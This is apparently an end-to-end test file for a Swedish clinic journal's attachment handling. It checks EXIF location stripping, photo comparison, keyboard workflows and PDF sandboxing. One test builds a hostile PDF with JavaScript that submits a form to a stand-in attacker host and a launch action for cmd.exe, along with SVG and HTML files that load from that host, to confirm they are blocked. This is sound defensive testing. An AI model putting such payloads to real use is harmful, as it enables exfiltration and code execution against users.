import { createHash } from 'node:crypto';
import { mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

import type { Page } from 'playwright-core';
import { afterAll, beforeAll, expect, it } from 'vitest';

import { cleanImage } from '#shared/domain/attachments/clean-image.ts';
import { carerOf, startAttachmentsClinic, type AttachmentsClinic, type AttachmentsUser } from '#test/support/attachments/attachments-clinic.ts';
import { pdf } from '#test/support/attachments/samples.ts';
import { canaryScanner } from '#test/support/canary-scan.ts';
import { closeBrowser, type FakePage } from '#test/support/fake-clinic.ts';
import { addPatient } from '#test/support/journal/journal-clinic.ts';
import { openReal } from '#test/screens/support/real-answers.ts';

import { picture } from '../support/one-screen.ts';

const SECRET = 'GPS-59.3293N-18.0686E';
let clinic: AttachmentsClinic;
let eva: AttachmentsUser;
let patientId: string;
let opened: FakePage;
const asked: string[] = [];

beforeAll(async () => {
  clinic = await startAttachmentsClinic();
  clinic.clock.set(new Date().toISOString());
  patientId = await addPatient(clinic.db, { familyName: 'Åkesson', givenName: 'Bo', number: '191212121212' });
  eva = await carerOf(clinic, patientId);
  opened = await openReal({
    areas: { journal: eva.journal, timeline: eva.timeline, attachments: eva.attachments, incoming: eva.incoming, medications: eva.medications, signing: eva.signing, phrases: eva.phrases, writing: eva.writing }, userId: eva.userId, roles: ['practitioner'], place: `/patients/${patientId}/journal?panel=attachments`, changed: clinic.changed,
  });
  opened.page.on('request', request => asked.push(request.url()));
}, 60_000);
afterAll(async () => {
  await opened.close();
  await closeBrowser();
  expect(clinic.reported).toEqual([]);
  await clinic.stop();
});

/** A photograph as a telephone makes it: turned by its EXIF, with a place in it. */
async function photo(page: Page, colour: string): Promise<Buffer> {
  const drawn = await page.evaluate(async fill => {
    const canvas = new OffscreenCanvas(600, 400);
    const context = canvas.getContext('2d');
    if (!context) return [];
    context.fillStyle = fill;
    context.fillRect(0, 0, 600, 400);
    context.fillStyle = '#a3262a';
    context.beginPath();
    context.arc(150, 120, 60, 0, 7);
    context.fill();
    return [...new Uint8Array(await (await canvas.convertToBlob({ type: 'image/jpeg' })).arrayBuffer())];
  }, colour);
  // TIFF: one entry, orientation 6 (held upright), and behind it words nobody should keep.
  const tiff = Buffer.concat([Buffer.from('4d4d002a00000008000101120003000000010006000000000000', 'hex'), Buffer.from(SECRET)]);
  const app1 = Buffer.concat([Buffer.from('Exif\0\0', 'latin1'), tiff]);
  return Buffer.concat([Buffer.from(drawn.slice(0, 2)), Buffer.from([0xff, 0xe1, (app1.length + 2) >> 8, (app1.length + 2) & 255]), app1, Buffer.from(drawn.slice(2))]);
}

/** Lets go of files over the journal, or pastes them. */
async function give(page: Page, how: 'drop' | 'paste', files: readonly { name: string; bytes: Buffer }[]): Promise<void> {
  await page.evaluate(([kind, list]) => {
    const data = new DataTransfer();
    for (const { name, base64 } of list) data.items.add(new File([Uint8Array.from(atob(base64), character => character.charCodeAt(0))], name));
    const event = kind === 'drop' ? new DragEvent('drop', { dataTransfer: data, bubbles: true, cancelable: true }) : new ClipboardEvent('paste', { clipboardData: data, bubbles: true, cancelable: true });
    document.body.dispatchEvent(event);
  }, [how, files.map(({ name, bytes }) => ({ name, base64: bytes.toString('base64') }))] as const);
}

const dialog = () => opened.page.getByRole('dialog');
const shot = (name: string): Promise<void> => picture(opened, name);

it('K-24 a dropped photograph asks for consent, is kept without its place and turned upright, and stands in the grid', async () => {
  const { page } = opened;
  await page.getByText('Inga bilagor.').waitFor();
  await shot('01-empty');
  await give(page, 'drop', [{ name: 'IMG_0001.exe', bytes: await photo(page, '#e0b090') }]);
  await dialog().locator('img').waitFor();
  await shot('02-add-photo');
  expect(await dialog().getByRole('button', { name: 'Bifoga' }).isDisabled()).toBe(true);
  await dialog().getByLabel('Samtycker muntligt').check();
  await dialog().getByLabel('Rubrik').fill('Vänster underarm');
  await dialog().getByLabel('Kroppsdel').fill('Underarm');
  await dialog().getByLabel('Rubrik').press('Enter');
  await page.getByRole('button', { name: /Vänster underarm/ }).waitFor();
  const { files, consent } = await eva.attachments.list({ patientId });
  expect(consent).toMatchObject({ method: 'oral', withdrawnAt: null });
  expect(files[0]).toMatchObject({ category: 'photo', mediaType: 'image/jpeg', width: 400, height: 600 });
  const kept = Buffer.from((await eva.attachments.read({ patientId, attachmentId: files[0]?.id ?? '' })).content, 'base64');
  expect(cleanImage(kept)).toMatchObject({ width: 400, height: 600 });
  expect(kept.includes(SECRET)).toBe(false);
});

it('K-24 before and after stand beside each other and are looked at together', async () => {
  const { page } = opened;
  for (const [stage, colour] of [['Före', '#c89070'], ['Efter', '#f0d0b0']] as const) {
    await give(page, 'paste', [{ name: 'bild.jpg', bytes: await photo(page, colour) }]);
    await dialog().locator('img').waitFor();
    await dialog().getByLabel('Kroppsdel').fill('Kind');
    await dialog().getByRole('combobox', { name: 'Före eller efter' }).click();
    await page.getByRole('option', { name: stage, exact: true }).click();
    await dialog().getByLabel('Rubrik').fill(`Kind ${stage.toLowerCase()}`);
    await dialog().getByLabel('Rubrik').press('Enter');
    await page.getByRole('button', { name: new RegExp(`Kind ${stage.toLowerCase()}`) }).waitFor();
  }
  await page.getByRole('button', { name: /Kind efter/ }).focus();
  await shot('03-grid');
  await page.keyboard.press('c');
  const sides = page.getByRole('group', { name: /^Kind/ });
  await expect.poll(() => sides.count()).toBe(2);
  await page.keyboard.press('+');
  await page.keyboard.press('+');
  await expect.poll(() => sides.first().evaluate(side => side.scrollHeight > side.clientHeight * 1.5)).toBe(true);
  await sides.first().evaluate(side => side.scrollTo({ top: 0 }));
  await expect.poll(() => sides.last().evaluate(side => side.scrollTop)).toBeLessThan(2);
  await shot('04-compare');
  await page.keyboard.press('Escape');
  await page.getByRole('button', { name: /Kind efter/ }).waitFor();
});

it('H31 H34 a PDF full of scripts, links and open actions is a picture that asks nobody anything; web pages are refused', async () => {
  const { page } = opened;
  const hostile = pdf({
    word: 'KANARIEFAGEL-7731', pages: 3, extra: '<< /Type /Filespec /F (a.exe) /EF << >> >>',
    root: '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("https://evil.invalid/"\\)) >> /AA << /WC << /S /Launch /F (cmd.exe) >> >> /AcroForm << /XFA (x) /Fields [] >> /URI << /Base (https://evil.invalid/) >>',
  });
  await give(page, 'drop', [{ name: 'svar.pdf', bytes: hostile }]);
  await dialog().locator('[data-pages="3"]').waitFor({ timeout: 20_000 });
  await shot('05-add-pdf');
  await dialog().getByLabel('Rubrik').fill('Svar från röntgen');
  await dialog().getByLabel('Rubrik').press('Enter');
  await page.getByRole('button', { name: /Svar från röntgen/ }).focus();
  await page.keyboard.press('Enter');
  await page.locator('[data-pages="3"]').waitFor({ timeout: 20_000 });
  await shot('06-view-pdf');
  const frame = page.frames().find(one => one.url().endsWith('/pdf-frame.html'));
  const inside = await frame?.evaluate(async () => ({
    origin: window.origin, bridge: 'clinic' in window && window.clinic !== undefined, links: document.querySelectorAll('a, button, input').length, drawn: document.querySelectorAll('canvas').length,
    fetched: await fetch('https://evil.invalid/').then(() => 'yes', () => 'no'), top: await Promise.resolve().then(() => { try { return String(window.top?.document.title); } catch { return 'closed'; } }),
  }));
  expect(inside).toMatchObject({ origin: 'null', links: 0, fetched: 'no', top: 'closed' });
  expect(inside?.drawn).toBeGreaterThan(0);
  await page.keyboard.press('Escape');
  for (const [name, content] of [['bild.jpg', '<svg xmlns="http://www.w3.org/2000/svg"><image href="https://evil.invalid/a.png"/></svg>'], ['brev.txt', '<html><img src="https://evil.invalid/b.png"></html>']] as const) {
    await give(page, 'drop', [{ name, bytes: Buffer.from(content) }]);
    await dialog().getByText(/Filtypen kan inte sparas/).waitFor();
    await page.keyboard.press('Escape');
    await dialog().waitFor({ state: 'detached' });
  }
  expect(asked.filter(url => !/^(blob:|https:\/\/klinikbok\.invalid\/)/.test(url))).toEqual([]);
});

it('K-24 after a file was looked at nothing of it lies in the browser’s profile, in another temporary folder or plain in the clinic’s file', () => {
  const profiles = readdirSync(tmpdir()).filter(name => /^(playwright|\.?org\.chromium|\.com\.google)/.test(name)).map(name => join(tmpdir(), name));
  const scanner = canaryScanner([{ name: 'the PDF', text: 'KANARIEFAGEL-7731' }, { name: 'the photograph', text: SECRET }]);
  const { hits, files } = scanner.inFolders([...profiles, clinic.dir]);
  expect(hits).toEqual([]);
  expect(files).toBeGreaterThan(3);
});

it('J-09 a picture’s address in memory shows nothing once the view is closed', async () => {
  const { page } = opened;
  await page.getByRole('button', { name: /Kind efter/ }).focus();
  await page.keyboard.press('Enter');
  const address = await page.getByRole('img', { name: /Kind efter/ }).getAttribute('src');
  const shows = () => page.evaluate(url => new Promise<boolean>(resolve => {
    const image = new Image();
    image.onload = () => resolve(true);
    image.onerror = () => resolve(false);
    image.src = url ?? '';
  }), address);
  expect(address).toMatch(/^blob:/);
  expect(await shows()).toBe(true);
  await page.keyboard.press('Escape');
  await page.getByRole('button', { name: /Kind efter/ }).waitFor();
  expect(await shows()).toBe(false);
});

it('K-22 K-24 a picture and what was given stand in the note’s text by keyboard, and the picture opens from there, written and signed', async () => {
  const { page } = opened;
  await page.keyboard.press('F2');
  const text = page.getByRole('textbox', { name: 'Besöksanteckning' });
  await text.click();
  await page.keyboard.press('Alt+Shift+B');
  await dialog().getByRole('button', { name: /Kind efter/ }).waitFor();
  await shot('11-choose-file');
  await page.keyboard.press('2');
  const chip = text.locator('[data-atom="attachment"]');
  await chip.waitFor();
  expect(await chip.innerText()).toMatch(/^Bild: Kind efter \d{4}-\d\d-\d\d$/);
  await page.keyboard.press('ArrowLeft');
  // The editor hears of the cursor's step a moment after the key; elsewhere than at a file the key does nothing.
  await expect.poll(async () => {
    if (!(await dialog().isVisible())) await page.keyboard.press('Alt+Enter');
    return dialog().isVisible();
  }, { interval: 250, timeout: 10_000 }).toBe(true);
  await dialog().getByRole('img', { name: 'Bilaga: Kind efter' }).waitFor();
  await shot('12-file-from-note');
  await page.keyboard.press('Escape');
  await dialog().waitFor({ state: 'detached' });
  await page.keyboard.press('End');
  await page.keyboard.press('Alt+s');
  await dialog().getByLabel('Produkt').fill('Restylane');
  await dialog().getByLabel('Batchnummer').fill('23-0147');
  await dialog().getByLabel('Mängd').fill('1 ml');
  await dialog().getByLabel('Mängd').press('Enter');
  await expect.poll(() => text.locator('[data-atom="given"]').innerText()).toMatch(/^Restylane 1 ml, batch 23-0147 \d{4}/);
  await shot('13-note-with-both');
  const [given] = (await eva.medications.list({ patientId })).given;
  const noteId = given?.noteId ?? '';
  expect(given).toMatchObject({ product: 'Restylane', batch: '23-0147' });
  await page.keyboard.press('Shift+F9');
  await page.getByText('Anteckningen är signerad.').waitFor();
  await page.getByRole('button', { name: /^Bild: Kind/ }).click();
  await dialog().getByRole('img', { name: 'Bilaga: Kind efter' }).waitFor();
  await page.keyboard.press('Escape');
  await dialog().waitFor({ state: 'detached' });
  // On a slow machine a last autosave may come in after the signature; it stands beside the signed text and never in its place.
  expect((await eva.journal.get({ patientId, noteId })).versions.find(version => version.kind === 'final')?.content?.schema).toBe(3);
  await page.keyboard.press('Shift+F7');
  await page.getByRole('button', { name: /Svar från röntgen/ }).waitFor();
});

it('J-09 Delete hides a file with a reason; it stays in the grid, struck', async () => {
  const { page } = opened;
  await page.getByRole('button', { name: /Svar från röntgen/ }).focus();
  await page.keyboard.press('Delete');
  await dialog().getByLabel('Skäl').fill('Fel patient');
  await page.keyboard.press('Enter');
  await page.getByText('Dold: Fel patient').waitFor();
  await shot('07-struck');
});

it('K-02 a scanned paper is registered from the folder, read, and signed off with one key', async () => {
  const { page } = opened;
  const folder = mkdtempSync(join(tmpdir(), 'klinikbok-scan-'));
  const bytes = pdf({ word: 'Remissvar' });
  writeFileSync(join(folder, 'scan0001.pdf'), bytes);
  await (await clinic.as('administrator')).incoming.saveSettings({ scanFolder: folder });
  const reception = await clinic.as('receptionist');
  await reception.incoming.register({
    file: { content: pdf({ word: 'Provsvar' }).toString('base64'), thumbnail: null }, sourceSha256: createHash('sha256').update('x').digest('hex'),
    facts: { documentType: 'labResult', documentDate: '2026-11-19', sender: 'Unilabs' }, assignment: { patientId, responsibleId: eva.userId },
  });
  await page.keyboard.press('Alt+y');
  await page.getByRole('row', { name: /Unilabs/ }).waitFor();
  await page.locator('[data-pages="1"]').waitFor({ timeout: 20_000 });
  await shot('08-to-sign');
  await page.keyboard.press('F9');
  await page.getByText('Inget att vidimera.').waitFor();
  await page.getByRole('button', { name: /Skanningsmappen/ }).click();
  await page.getByRole('row', { name: /scan0001/ }).waitFor();
  await shot('09-folder');
  await page.getByRole('grid').press('Enter');
  await dialog().locator('[data-pages="1"]').waitFor({ timeout: 20_000 });
  await shot('10-register');
  await dialog().getByLabel('Avsändare').fill('Röntgen');
  await dialog().getByLabel('Avsändare').press('Enter');
  await page.getByText('Sparad i Klinikbok').waitFor();
  expect((await reception.incoming.toAssign({}))[0]).toMatchObject({ sender: 'Röntgen', size: bytes.length });
  expect((await eva.attachments.list({ patientId })).files.map(one => one.title)).toContain('Unilabs');
  // What the test itself asked from within the frame, and for a picture that is gone, was stopped and said so.
  expect(opened.complaints.filter(complaint => !complaint.includes('evil.invalid') && !complaint.includes('ERR_FILE_NOT_FOUND'))).toEqual([]);
  rmSync(folder, { recursive: true });
});
